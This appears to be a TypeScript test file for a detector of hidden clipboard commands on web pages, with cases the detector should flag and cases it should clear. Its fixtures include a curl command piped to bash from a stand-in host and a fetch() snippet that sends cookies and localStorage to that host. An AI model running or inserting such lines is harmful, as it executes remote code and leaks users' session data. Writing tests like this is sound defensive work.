import { detectorTest } from '../../testing/detectorTest.ts'
import { browsing } from '../../testing/sampleUrl.ts'
import detector from './hidden-clipboard-command.ts'

const copies = (text: string, shown: boolean, unprompted = false) => ({
  browsing: browsing({ copies: [{ text, unprompted, shown, instead: null }] }),
})
const COMMAND = 'curl -s https://else.example/a | bash'

detectorTest(detector, {
  detects: {
    'a command behind what is kept of the text': {
      browsing: browsing({
        copies: [{ text: 'Check 1', does: 'command', unprompted: false, shown: false, instead: null }],
      }),
    },
    'a command that is not shown': copies(COMMAND, false),
    'code for the console that sends what a site keeps': copies(
      "fetch('https://else.example/k',{method:'POST',body:JSON.stringify([document.cookie,{...localStorage}])})",
      false,
    ),
  },
  clears: {
    'code for the console that counts pictures': copies('document.images.length', false),
    'code that empties what a site keeps': copies("localStorage.removeItem('theme'); location.reload()", false),
    'an installer that shows its command': copies(COMMAND, true),
    'a coupon': copies('TEA10', false),
    'a command without a press, which is judged elsewhere': copies(COMMAND, false, true),
    nothing: {},
  },
})
